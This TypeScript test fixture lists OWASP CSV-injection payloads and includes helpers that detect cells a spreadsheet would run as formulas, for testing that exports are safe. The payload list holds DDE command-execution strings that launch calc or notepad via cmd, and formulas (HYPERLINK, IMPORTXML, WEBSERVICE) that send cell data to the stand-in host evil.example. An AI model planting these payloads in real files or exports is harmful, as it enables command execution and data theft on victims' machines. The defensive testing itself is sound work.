/**
 * OWASP's CSV-injection payloads (owasp.org/www-community/attacks/CSV_Injection and its cheat
 * sheet), with the separator and line-break variants of issue 28. Shared by the Workers tests of
 * every export and the attack suite's CSV phase, with the check a spreadsheet's eyes would make.
 */
export const CSV_PAYLOADS = [
  "=1+1",
  "+1+1",
  "-1+1",
  "@SUM(1+1)",
  "\t=1+1",
  "\r=1+1",
  "=cmd|' /C calc'!A0",
  "@SUM(1+9)*cmd|' /C calc'!A0",
  "-2+3+cmd|' /C calc'!A0",
  "+cmd|' /C notepad'!'B1'",
  '=DDE("cmd";"/C calc";"!A0")A0',
  '=HYPERLINK("http://evil.example/?x="&A1&A2,"Error: please click for details")',
  '=IMPORTXML(CONCAT("http://evil.example/?v=",CONCATENATE(A2:E2)),"//a")',
  '=WEBSERVICE("http://evil.example/")',
  "a;=1+1;b",
  "a,=1+1,b",
  "a\t=1+1\tb",
  "line one\n=1+1",
  "line one\r\n@SUM(1+1)",
  'quoted "=1+1" inside',
  '";=1+1;"',
  '["a","-1+1"]',
] as const;

const FORMULA_START = /^[=+\-@\t\r]/;

/** Cells of a CSV as a spreadsheet splits it on `separator`, honouring RFC 4180 quotes. */
export function spreadsheetCells(csv: string, separator: string): string[] {
  const cells: string[] = [];
  let cell = "";
  let quoted = false;
  for (let i = 0; i < csv.length; i++) {
    const char = csv[i] as string;
    if (quoted) {
      if (char === '"' && csv[i + 1] === '"') {
        cell += '"';
        i++;
      } else if (char === '"') quoted = false;
      else cell += char;
    } else if (char === '"' && cell === "") quoted = true;
    else if (char === separator || char === "\n" || char === "\r") {
      cells.push(cell);
      cell = "";
      if (char === "\r" && csv[i + 1] === "\n") i++;
    } else cell += char;
  }
  cells.push(cell);
  return cells;
}

/**
 * The cells a spreadsheet would run as a formula: split on comma (RFC 4180), on semicolon (a
 * continental European locale) and, worst of all, naively on every separator ignoring quotes.
 * Empty when the export is safe.
 */
export function formulaCells(csv: string): string[] {
  const body = csv.replace(/^\uFEFF/, "");
  const naive = body.split(/[,;\t\r\n]/).map((cell) => cell.replace(/^"+/, ""));
  return [...spreadsheetCells(body, ","), ...spreadsheetCells(body, ";"), ...naive].filter((cell) =>
    FORMULA_START.test(cell),
  );
}
